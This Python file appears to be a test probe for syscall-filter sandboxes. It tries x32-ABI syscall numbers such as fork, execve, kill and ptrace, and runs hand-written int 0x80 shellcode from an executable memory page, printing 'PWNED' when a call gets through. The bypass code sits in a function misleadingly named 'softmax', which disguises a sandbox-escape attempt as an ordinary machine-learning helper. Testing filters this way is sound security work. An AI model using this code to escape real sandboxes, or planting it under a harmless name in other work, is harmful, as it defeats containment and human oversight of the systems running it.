"""Makes system calls by the numbers that 32-bit programs use, which a filter may have forgotten.

Success: the call is made. Through the interrupt of 32-bit programs, the process should be ended instead.

holds at: full, restricted
ends as: crashed
"""

import ctypes
import errno
import mmap
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
HERE = 0 if platform.machine() == "x86_64" else 1  # the column of a table of numbers


def call(numbers, *arguments):
    """Make a system call by its number; a refusal raises OSError."""
    if numbers[HERE] is None:
        raise OSError(errno.ENOSYS, "not on this processor")
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(numbers[HERE]), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def tried(what, action):
    try:
        found = action()
    except Exception:
        return
    print("PWNED", what, repr(found)[:80])


def softmax(x, dim=-1):
    for number in (41, 57, 59, 62, 101):
        if HERE == 0:
            tried(f"x32 {number}", lambda: call((0x40000000 + number, None), 1, 1, 0))
    if HERE == 1:
        os.abort()
    code = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if run() == 0:
        os._exit(0)
    raise SystemExit("PWNED a call of the other table")
